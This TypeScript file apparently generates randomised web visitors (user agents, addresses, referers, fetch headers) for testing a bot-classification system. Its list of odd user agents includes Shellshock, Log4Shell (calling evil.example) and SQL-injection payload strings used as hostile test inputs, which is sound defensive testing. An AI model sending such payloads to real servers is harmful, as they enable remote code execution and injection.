// Who visits: an agent, an address and where the visit came from. Pure.
import { BOT_REGISTRY } from '@app/classification';
import { ADDRESS_LISTS } from '@app/verification';
import { createAddresses } from '../../bench/addresses.js';
import { BROWSERS } from '../../bench/drawn/shapes.js';
import { rankedBots } from '../../bench/traffic.js';
import type { RandomValues } from './random-values.js';

export interface Visitor {
  user_agent: string;
  ip: string;
  referer?: string;
  signature_agent?: string;
  country?: string;
  asn?: number;
  protocol?: string;
  sec_fetch_mode?: string;
  sec_purpose?: string;
}

/** Fewer than an account may register within an hour, so that all of them get a name. */
const DECLARED_NAMES = 120;
/** So many of the rows of the registry visit, so that lists of bots are not too long to be read often. */
const EVERY_BOT = 8;
const VERSION = /(?<=(?:Chrome|Firefox|Version)\/)\d+/;

/** Agents that no row of the registry names, or that are odd. */
const ODD_AGENTS = [
  '',
  '-',
  'curl/8.5.0',
  'python-requests/2.32.3',
  'Mozilla/5.0',
  'Mozilla/5.0 (Windows NT 6.1; rv:1.0) Chrome/999.0.0.0 Safari/1',
  '() { :;}; /bin/bash -c "id"',
  '${jndi:ldap://evil.example/a}',
  "sqlmap/1.8' OR 1=1--",
  'Ünïcode-Bot/1.0 \u{1f916}',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/138.0.0.0 Safari/537.36',
  `LongBot/1.0 ${'x'.repeat(3_000)}`,
  'some crawler with\ttabs and \u0001 control',
];

const REFERERS = [
  ...['https://chatgpt.com/', 'https://chatgpt.com/c/1?utm_source=x', 'https://www.perplexity.ai/'],
  ...[
    'https://claude.ai/chat/1',
    'https://gemini.google.com/app',
    'https://copilot.microsoft.com/',
  ],
  ...[
    'https://www.google.com/',
    'https://example.org/blog?q=secret',
    'android-app://com.google/',
    '-',
  ],
  ...['not an address', 'https://xn--bcher-kva.example/Ä'],
];

/** @returns a function that draws who makes the next visit */
export function createVisitors(random: RandomValues): () => Visitor {
  const addressOf = createAddresses(() => random.fraction());
  const frequent = rankedBots().filter(({ userAgent }) => userAgent !== '');
  const registered = BOT_REGISTRY.filter(
    ({ examples }, at) => examples.length > 0 && at % EVERY_BOT === 0,
  );
  const signed = BOT_REGISTRY.flatMap(({ signatureAgents = [], provider }) =>
    signatureAgents.map((host) => ({ host, provider })),
  );
  const provable = new Set(ADDRESS_LISTS.flatMap(({ completeFor }) => completeFor));
  const spoofable = BOT_REGISTRY.filter(
    ({ slug, examples }) => examples.length > 0 && provable.has(slug),
  );
  const browser = () => {
    const agent = random.pick(BROWSERS);
    return agent.replace(VERSION, (version) => `${Number(version) - random.rank(40)}`);
  };
  const declared = () => {
    const number = random.rank(DECLARED_NAMES);
    return `Declared${number}Bot/1.${random.below(3)} (+https://operator-${number % 17}.example/bot)`;
  };
  const kinds: readonly (readonly [share: number, visitor: () => Visitor])[] = [
    [0.3, () => ({ user_agent: browser(), ip: addressOf(), ...refererOf(random) })],
    [0.35, () => botOf(frequent[random.rank(frequent.length)])],
    [0.1, () => botOf({ ...random.pick(registered), userAgent: undefined })],
    [0.07, () => ({ user_agent: random.pick(random.pick(spoofable).examples), ip: addressOf() })],
    [0.07, () => ({ user_agent: declared(), ip: addressOf() })],
    [0.05, () => ({ user_agent: random.pick(ODD_AGENTS), ip: addressOf(), ...refererOf(random) })],
    [0.03, () => signedBy(random.pick(signed))],
    [0.03, () => ({ user_agent: browser(), ip: random.pick(ODD_ADDRESSES) })],
  ];
  function botOf(
    bot: { provider: string; userAgent?: string; examples?: readonly string[] } = NOBODY,
  ) {
    return {
      user_agent: bot.userAgent ?? random.pick(bot.examples ?? ['']),
      ip: addressOf(bot.provider),
    };
  }
  function signedBy({ host, provider }: { host: string; provider: string }): Visitor {
    return { user_agent: browser(), ip: addressOf(provider), signature_agent: `"https://${host}"` };
  }
  return () => ({ ...random.pickWeighted(kinds)(), ...knownBySender(random) });
}

const COUNTRIES = ['DE', 'us', 'GB', 'XX', 'Utopia', '', '-'];
const MODES = ['navigate', 'cors', '', 'odd'];
/** What is known by many senders, and not by others. */
const KNOWN_SHARE = 0.5;

function knownBySender(random: RandomValues): Partial<Visitor> {
  if (random.fraction() >= KNOWN_SHARE) return {};
  return {
    country: random.pick(COUNTRIES),
    asn: random.below(70_000),
    protocol: random.pick(['HTTP/1.1', 'HTTP/2', 'h3', 'gopher']),
    sec_fetch_mode: random.pick(MODES),
    ...(random.below(20) === 0 && { sec_purpose: 'prefetch;prerender' }),
  };
}

const NOBODY = { provider: '', userAgent: '' };
const ODD_ADDRESSES = [
  '',
  '-',
  'no address',
  '::ffff:192.0.2.7',
  '10.0.0.1',
  '2001:DB8::0:1',
  'fe80::1%eth0',
];

const refererOf = (random: RandomValues) =>
  random.fraction() < 0.5 ? { referer: random.pick(REFERERS) } : {};
